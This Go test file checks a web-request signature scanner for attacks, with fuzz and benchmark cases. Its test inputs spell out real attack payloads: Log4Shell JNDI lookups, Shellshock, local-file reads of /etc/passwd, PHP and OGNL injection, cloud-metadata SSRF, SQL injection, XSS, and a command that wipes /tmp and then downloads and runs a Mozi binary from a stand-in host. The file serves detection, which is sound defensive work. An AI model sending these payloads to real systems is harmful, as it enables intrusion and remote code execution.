package signature

import (
	"strings"
	"testing"
)

func TestScan(t *testing.T) {
	tests := []struct {
		in   string
		want []Class
	}{
		{"${jndi:${lower:l}${lower:d}a${lower:p}://x.example/a}", []Class{Log4Shell}},
		{"${${::-j}${::-n}di:rmi://x}", []Class{Log4Shell}},
		{"() { :; }; /bin/bash -c 'id'", []Class{Shellshock, CMDi}},
		{"/etc/passwd", []Class{LFI}},
		{"url=file:///etc/passwd", []Class{LFI}},
		{"-d allow_url_include=1 -d auto_prepend_file=php://input", []Class{RFI, PHPInjection}},
		{`s=index/\think\Container/invokefunction&function=call_user_func_array`, []Class{PHPInjection}},
		{"class.module.classLoader.URLs[0]=0", []Class{JavaInjection}},
		{"${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"ls\")))}", []Class{JavaInjection}},
		{"url=http://169.254.169.254/latest/meta-data/", []Class{SSRFMetadata}},
		{"cmd=rm -rf /tmp/*;wget http://x/Mozi.m -O /tmp/n;sh n", []Class{CMDi}},
		{"/Worse_Linux_Shell.php", []Class{Webshell}},
		{"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", []Class{CVEProbe}},
		{"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)", []Class{ScannerUA}},
	}
	for _, tt := range tests {
		m := Scan(tt.in)
		for _, c := range tt.want {
			if !m.Has(c) {
				t.Errorf("Scan(%q) = %s, missing %s", tt.in, names(m), c)
			}
		}
	}
}

func names(m Mask) string {
	var out []string
	for c := Class(0); c < numClasses; c++ {
		if m.Has(c) {
			out = append(out, c.String())
		}
	}
	return strings.Join(out, ",")
}

// TestBenign holds the false-positive guards: what real visitors send.
func TestBenign(t *testing.T) {
	attacks := Mask(1<<Traversal | 1<<LFI | 1<<RFI | 1<<CMDi | 1<<Log4Shell | 1<<JavaInjection |
		1<<PHPInjection | 1<<Shellshock | 1<<SSRFMetadata | 1<<Webshell | 1<<ScannerUA)
	for _, s := range []string{
		"q=select dining chairs", "q=union station", "q=drop table lamp", "q=insert coin",
		"q=O'Reilly books", "q=rock & roll", "q=1+1=2", "q=c++ tutorial", "q=what is 1/2 + 1/4",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
		"UptimeRobot/2.0 (http://www.uptimerobot.com/)", "kube-probe/1.29", "ELB-HealthChecker/2.0",
		"Stripe/1.0 (+https://stripe.com/docs/webhooks)", "PayPal IPN ( https://www.paypal.com/ipn )",
		"/.well-known/acme-challenge/3Yc8fA_tok-en", "/api/v1/items?page=3&sort=-price",
		"/data/migrations/1548957970627_remove-db-version.sql", "/blog/2024/05/hello-world",
		"return_to=https://example.com/account?tab=orders", "/static/js/app.3f2a.js",
		"/products/shell-shock-absorber", "/search?q=eval+my+essay",
	} {
		if m := Scan(s) & attacks; m != 0 {
			t.Errorf("Scan(%q) = %s, want no attack class", s, names(m))
		}
		if SQLi(s) {
			t.Errorf("SQLi(%q) = true", s)
		}
		if XSS(s) {
			t.Errorf("XSS(%q) = true", s)
		}
		if QuerySQLi(s) || QueryXSS(s) {
			t.Errorf("QuerySQLi/QueryXSS(%q) = true", s)
		}
	}
}

func TestInjection(t *testing.T) {
	for _, q := range []string{
		"id=1'%20or%20'1'='1", "id=1+UNION+SELECT+NULL,NULL--",
		"id=1;DROP TABLE users--",
	} {
		if !QuerySQLi(q) {
			t.Errorf("QuerySQLi(%q) = false", q)
		}
	}
	for _, q := range []string{"a=<script>alert(1)</script>", "a=%3Cimg%20src=x%20onerror=alert(1)%3E", "a=<svg/onload=prompt(1)>"} {
		if !QueryXSS(q) {
			t.Errorf("QueryXSS(%q) = false", q)
		}
	}
}

func TestAllocs(t *testing.T) {
	for _, s := range []string{"id=1%27%20or%20%271%27=%271", "a=%3Cscript%3Ealert(1)%3C/script%3E", "q=plain"} {
		if n := testing.AllocsPerRun(50, func() { Scan(s) }); n != 0 {
			t.Errorf("Scan allocates %v", n)
		}
		n := testing.AllocsPerRun(50, func() { QuerySQLi(s); QueryXSS(s) })
		t.Logf("QuerySQLi+QueryXSS(%q): %v allocs", s, n)
	}
}

func FuzzScan(f *testing.F) {
	for _, s := range []string{"${jndi:ldap://x}", "a=1'or'1'='1", "<script>", "q=select dining chairs", "%", "a=%zz&b"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if len(s) > 4096 {
			return
		}
		m := matcher().scan(s)
		scanCode(s)
		// The automaton agrees with a naive search.
		var want Mask
		low := strings.ToLower(s)
		for _, p := range patterns() {
			if strings.Contains(low, strings.ToLower(p.text)) {
				want |= 1 << p.class
			}
		}
		if m != want {
			t.Fatalf("Scan(%q) = %s, naive %s", s, names(m), names(want))
		}
		SQLi(s)
		XSS(s)
		QuerySQLi(s)
		QueryXSS(s)
	})
}

func BenchmarkScan(b *testing.B) {
	ua := "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
	b.ReportAllocs()
	b.SetBytes(int64(len(ua)))
	for b.Loop() {
		Scan(ua)
	}
}

func BenchmarkQuerySQLi(b *testing.B) {
	b.ReportAllocs()
	for b.Loop() {
		QuerySQLi("id=1%27%20or%20%271%27=%271&page=2")
	}
}

func TestAutomatonSize(t *testing.T) {
	a := matcher()
	t.Logf("%d states, alphabet %d, table %d KiB", len(a.out), a.width, len(a.next)*2/1024)
}

// TestFragments: every fragment Fragments lists is found by Scan, in any
// ASCII case: the list is the automaton's.
func TestFragments(t *testing.T) {
	fs := Fragments()
	if len(fs) < 100 {
		t.Fatalf("%d fragments", len(fs))
	}
	for _, f := range fs {
		if Scan(f) == 0 || Scan(strings.ToUpper(f)) == 0 {
			t.Errorf("Scan(%q) found nothing", f)
		}
	}
}
